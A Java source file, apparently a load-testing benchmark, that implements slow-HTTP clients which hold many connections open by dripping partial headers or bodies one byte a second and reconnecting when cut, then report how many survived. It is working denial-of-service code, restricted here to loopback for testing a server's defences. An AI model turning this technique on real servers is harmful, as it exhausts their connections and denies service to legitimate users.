package dev.countermark.benchmarks.load;

import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;

/**
 * Clients that send a byte a second each, and come again when they are cut. One half drips headers, the other bodies.
 *
 * <pre>
 * java SlowClients.java URL CONNECTIONS SECONDS
 * </pre>
 *
 * <p>Prints how many connections were open at the end and how often one was cut. Loopback only: it is an attack.
 */
public final class SlowClients {

    private static final String HEADER = "GET /verify HTTP/1.1\r\nHost: x\r\nX: ";
    private static final String BODY = "POST /leaked HTTP/1.1\r\nHost: x\r\nContent-Length: 60000\r\n\r\n";

    private SlowClients() {}

    /** See the class. */
    public static void main(String[] arguments) throws InterruptedException {
        var port = URI.create(arguments[0]).getPort();
        int connections = Integer.parseInt(arguments[1]);
        long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(Integer.parseInt(arguments[2]));
        List<Socket> open = new ArrayList<>();
        int cut = 0;
        while (System.nanoTime() < end) {
            while (open.size() < connections) {
                try {
                    var socket = new Socket(InetAddress.getLoopbackAddress(), port);
                    socket.getOutputStream()
                            .write((open.size() % 2 == 0 ? HEADER : BODY).getBytes(StandardCharsets.US_ASCII));
                    open.add(socket);
                } catch (IOException e) {
                    break;
                }
            }
            int before = open.size();
            open.removeIf(socket -> !drips(socket));
            cut += before - open.size();
            Thread.sleep(1000);
        }
        System.out.println("slow clients: " + open.size() + " open, cut " + cut + " times");
    }

    private static boolean drips(Socket socket) {
        try {
            socket.getOutputStream().write('x');
            return true;
        } catch (IOException e) {
            return false;
        }
    }
}
